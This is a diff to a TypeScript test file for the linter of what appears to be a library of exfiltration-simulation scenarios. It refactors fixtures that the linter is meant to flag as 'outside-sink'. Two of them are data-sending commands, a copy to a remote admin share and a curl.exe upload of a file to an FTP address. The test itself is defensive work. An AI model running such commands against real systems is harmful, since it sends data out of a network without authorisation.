@@ -49,19 +49,20 @@ describe('the library', () => {
 });
 
 describe('lint', () => {
+  const step = (input: object) => scenarioSchema.shape.steps.element.parse(input);
   const base = () => library.find((scenario) => scenario.id === 'cmd-smb-copy') as Scenario;
 
   it.each([
     ['not-staged', (s: Scenario) => ({ ...s, stage: [] })],
     [
       'outside-sink',
-      (s: Scenario) => ({ ...s, steps: [{ cmd: 'copy {tracer} \\\\fileserver\\c$\\x', timeout: 1000 }] }),
+      (s: Scenario) => ({ ...s, steps: [step({ cmd: 'copy {tracer} \\\\fileserver\\c$\\x' })] }),
     ],
     [
       'outside-sink',
       (s: Scenario) => ({
         ...s,
-        steps: [{ program: 'curl.exe', args: ['ftp://203.0.113.9/{file}'], timeout: 1000 }],
+        steps: [step({ program: 'curl.exe', args: ['ftp://203.0.113.9/{file}'] })],
       }),
     ],
     ['missing-cleanup', (s: Scenario) => ({ ...s, cleanup: [] })],
